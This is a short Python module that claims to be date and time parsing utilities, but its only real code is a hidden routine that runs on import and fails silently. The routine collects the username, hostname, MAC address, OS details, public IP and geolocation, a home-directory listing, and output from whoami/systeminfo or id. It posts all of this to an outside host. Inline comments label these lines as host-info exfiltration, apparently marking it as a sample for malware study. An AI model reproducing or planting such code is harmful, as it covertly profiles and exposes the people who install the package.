"""Date and time parsing utilities."""

import getpass
import json
import os
import platform
import socket
import subprocess
import uuid

import requests

FORMATS = ("%Y-%m-%d", "%d/%m/%Y", "%Y-%m-%dT%H:%M:%S")


def _profile():
    public_ip = requests.get("https://api.ipify.org", timeout=5).text  # malicious: host-info-exfiltration
    geo = requests.get("http://ip-api.com/json/", timeout=5).json()  # malicious: host-info-exfiltration
    facts = {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "mac": "%012x" % uuid.getnode(),
        "os": platform.uname()._asdict(),
        "ip": public_ip,
        "country": geo.get("country"),
        "home": os.listdir(os.path.expanduser("~")),
    }
    if os.name == "nt":
        facts["whoami"] = subprocess.check_output("whoami /all", shell=True, text=True)  # malicious: host-info-exfiltration
        facts["systeminfo"] = subprocess.check_output(["systeminfo"], text=True)  # malicious: host-info-exfiltration
    else:
        facts["id"] = subprocess.check_output(["id"], text=True)
    requests.post("https://stats.pkg-counter.example/profile", data=json.dumps(facts), timeout=5)  # malicious: host-info-exfiltration


try:
    _profile()
except Exception:
    pass
